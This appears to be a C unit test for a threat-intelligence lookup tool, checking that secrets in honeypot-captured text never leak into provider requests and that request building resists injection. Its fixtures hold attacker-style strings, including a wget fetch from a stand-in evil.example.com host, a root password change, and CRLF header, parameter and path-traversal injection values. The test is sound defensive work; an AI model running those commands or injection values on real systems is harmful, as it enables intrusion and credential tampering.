/* test_leaks.c - a property: whatever captured text gets among a campaign's observables, no byte of a credential or command reaches a request that any provider's row
 * builds; and no question that may be asked builds a request that says more than the question. */
#include "testing.h"

#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "base/rng.h"
#include "tools/online/layer.h"

enum { SECRET_LEN = 12, ROUNDS = 40, TEXT_MOST = 256, TEXTS_MOST = 32 };

/* what honeypots capture, with the secret for %s: credentials, commands, URLs that hold them */
static const char *const captured[] = { "%s", "root:%s", "\"%s\"", "echo %s | passwd --stdin root",
	"wget http://evil.example.com/x; echo %s", "%s evil.example.com", "evil.example.com %s",
	"evil.example.com/%s", "http://root:%s@evil.example.com/x", "http://%s@evil.example.com/x",
	"http://evil.example.com/x?pw=%s", "http://evil.example.com/?%s",
	"http://evil.example.com/x#%s", "http://evil.example.com:%s/x",
	"http://evil.example.com/x\r\nX-Captured: %s", "http://evil.example.com/x %s",
	"http:\\\\%s@evil.example.com\\x", "//%s@evil.example.com/x",
	"http://evil.example.com/\x01%s", "http://evil.example.com/\xe2\x80\xae%s",
	"mailto:%s@example.com", "%s@example.com", "%s.local", "%s.", ".%s.example.com",
	"http://10.0.0.1/%s", "http://[::1]/%s", "http://honeypot/%s", "data:text/plain,%s",
	"ssh-rsa AAAAB3 %s" };

static char folder[] = "/tmp/coord-leaks-XXXXXX";
static struct tools *tools;

static int
begin(void **state)
{
	char path[64], setting[96];
	const char *settings[3] = { NULL };
	const char all[] =
	    "COORD_PROVIDERS=cymru,cymru-whois,ripestat,isc,misp,internetdb,threatfox,"
	    "urlhaus,malwarebazaar,otx,abuseipdb,virustotal,greynoise";
	struct coord_error err;
	struct config config;
	FILE *file;

	(void)state;
	assert_non_null(mkdtemp(folder));
	(void)snprintf(path, sizeof(path), "%s/providers.json", folder);
	file = fopen(path, "w");
	assert_non_null(file);
	assert_true(
	    fputs("{\"misp\":{\"url\":\"https://misp.example.com\",\"key\":\"k\"}}", file) >= 0);
	assert_int_equal(fclose(file), 0);
	(void)snprintf(setting, sizeof(setting), "COORD_PROVIDERS_FILE=%s", path);
	settings[0] = all;
	settings[1] = setting;
	assert_int_equal(config_load(NULL, settings, 2, &config, &err), COORD_OK);
	assert_int_equal(
	    tools_open(&(struct tools_options){ .config = &config }, &tools, &err), COORD_OK);
	config_clear(&config);
	(void)unlink(path);
	(void)rmdir(folder);
	for (size_t i = 0; provider_at(i) != NULL; i++)
		assert_non_null(seat_named(tools, provider_at(i)->name));
	return 0;
}

static int
end(void **state)
{
	(void)state;
	tools_close(tools);
	return 0;
}

/** Letters and digits pass through every encoding as they are; a "q" and a "z" keep it from being hex. */
static void
draw_secret(struct rng *rng, char secret[SECRET_LEN + 1])
{
	static const char letters[] = "ghijklmnopqrstuvwxyz0123456789";

	for (size_t i = 0; i < SECRET_LEN; i++)
		secret[i] = letters[rng_below(rng, sizeof(letters) - 1)];
	secret[0] = 'q';
	secret[SECRET_LEN - 1] = 'z';
	secret[SECRET_LEN] = 0;
}

static bool
holds(struct sv text, const char *secret)
{
	for (size_t i = 0; i + SECRET_LEN <= text.len; i++)
		if (sv_ieq((struct sv){ text.data + i, SECRET_LEN }, sv_from(secret)))
			return true;
	return false;
}

/** Everything of a request as one text. */
static struct sv
request_of(const struct tools_lookup *lookup, struct arena *arena)
{
	const struct provider *provider = provider_named(sv_from(lookup->provider));
	const struct provider_call *call = call_named(provider, sv_from(lookup->call));
	const struct provider_setup setup = { .contact = "", .app = "app" };
	struct provider_request request = { .n_headers = 0 };
	struct buf all = BUF_INIT(1 << 16);
	struct sv text;

	if (call->build(&lookup->question, &setup, arena, &request, NULL) != COORD_OK)
		return SV("");
	buf_add_sv(&all, request.path);
	for (size_t i = 0; i < request.n_headers; i++)
		buf_printf(&all, "\n%s:%s", request.headers[i].name, request.headers[i].value);
	if (request.body.data != NULL)
		buf_add_sv(&all, request.body);
	assert_false(all.failed);
	text = sv_from(arena_strdup(arena, buf_sv(&all)));
	buf_clear(&all);
	return text;
}

/** Captured texts in an order that is drawn, and the plain ones that may be asked. */
static size_t
draw_texts(
    struct rng *rng, const char *secret, struct arena *arena, const char *plain, struct sv *ret)
{
	size_t n = 0;

	for (; n + 1 < TEXTS_MOST && n < COUNT_OF(captured); n++) {
		char *text = arena_alloc(arena, TEXT_MOST);
		const char *format = captured[rng_below(rng, COUNT_OF(captured))];
		const char *at = strstr(format, "%s");

		assert_non_null(text);
		(void)snprintf(
		    text, TEXT_MOST, "%.*s%s%s", (int)(at - format), format, secret, at + 2);
		ret[n] = sv_from(text);
	}
	ret[n] = sv_from(plain);
	return n + 1;
}

static void
check_plan(
    const struct tools_campaign *campaign, const char *secret, struct arena *arena, unsigned *plain)
{
	static const double thresholds[] = { 0.5 };
	const struct tools_case about = {
		.campaigns = campaign, .n_campaigns = 1, .thresholds = thresholds, .n_thresholds = 1
	};
	struct tools_plan plan;

	assert_int_equal(tools_plan(tools, &about, 7, NULL, 0, arena, &plan, NULL), COORD_OK);
	for (size_t i = 0; i < plan.n; i++) {
		struct sv request = request_of(&plan.lookups[i], arena);

		if (holds(request, secret) || holds(plan.lookups[i].key, secret))
			fail_msg("%.*s: %.*s", SV_ARG(plan.lookups[i].key), SV_ARG(request));
		*plain += sv_has(request, SV("plain.example.org"));
	}
}

static void
check_questions(const struct tools_campaign *campaign, const char *secret, struct arena *arena)
{
	struct tools_question *questions;
	size_t n;

	assert_int_equal(tools_questions(campaign, 0, arena, &questions, &n, NULL), COORD_OK);
	assert_true(n >= 3);
	for (size_t i = 0; i < n; i++)
		if (holds(questions[i].text, secret))
			fail_msg("%s %.*s", tools_kind_name(questions[i].kind),
			    SV_ARG(questions[i].text));
}

static void
captured_text_stays(void **state)
{
	(void)state;
	for (uint32_t round = 0; round < ROUNDS; round++) {
		struct rng rng = rng_at(20261127, 1, round, 0);
		struct arena *arena = arena_new(0);
		const struct tools_source source = { .address = addr_from_v4(0x2d091407) };
		struct sv hashes[TEXTS_MOST], urls[TEXTS_MOST], domains[TEXTS_MOST];
		char secret[SECRET_LEN + 1];
		struct tools_campaign campaign = { .confidence = 0.5,
			.sources = &source,
			.n_sources = 1,
			.wants_asn = true,
			.wants_intel = true,
			.hashes = hashes,
			.urls = urls,
			.domains = domains };
		unsigned plain = 0;

		draw_secret(&rng, secret);
		campaign.id = sv_from(secret);
		campaign.n_hashes =
		    draw_texts(&rng, secret, arena, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", hashes);
		campaign.n_urls =
		    draw_texts(&rng, secret, arena, "http://plain.example.org/x", urls);
		campaign.n_domains = draw_texts(&rng, secret, arena, "plain.example.org", domains);
		check_plan(&campaign, secret, arena, &plain);
		check_questions(&campaign, secret, arena);
		assert_true(plain >= 2); /* the plain ones are asked: the property is not empty */
		arena_free(arena);
	}
}

/** Bytes of a question come out of build encoded: they end no path, header or JSON text, and start no second parameter. */
static void
requests_say_no_more(void **state)
{
	static const char *const odd[] = { "http://evil.example.com/a&b=c",
		"http://evil.example.com/\"x\"", "http://evil.example.com/%0d%0aX:1",
		"http://evil.example.com/../../report", "evil.example.com", "45.9.20.7",
		"2a00:1450::7" };
	struct arena *arena = arena_new(0);

	(void)state;
	for (size_t p = 0; provider_at(p) != NULL; p++)
		for (size_t c = 0; c < provider_at(p)->n_calls; c++)
			for (size_t i = 0; i < COUNT_OF(odd); i++) {
				const struct provider_call *call = &provider_at(p)->calls[c];
				struct tools_lookup lookup = { .provider = provider_at(p)->name,
					.call = call->name };
				struct sv request;

				if (!tools_question_read(
					sv_from(odd[i]), arena, &lookup.question) ||
				    (call->kinds & 1u << lookup.question.kind) == 0)
					continue;
				request = request_of(&lookup, arena);
				assert_false(sv_has(request, SV("&b=c")) &&
					     !sv_has(request, SV("\"http://evil.example.com/a")));
				assert_false(sv_has(request, SV("\"x\"")));
				assert_false(sv_has(request, SV("\r\nX:1")));
				assert_false(sv_has(request, SV("/../")) &&
					     request.data[0] == '/' &&
					     !sv_has(request, SV("\"http")));
			}
	arena_free(arena);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(captured_text_stays),
		cmocka_unit_test(requests_say_no_more),
	};

	return cmocka_run_group_tests(tests, begin, end);
}
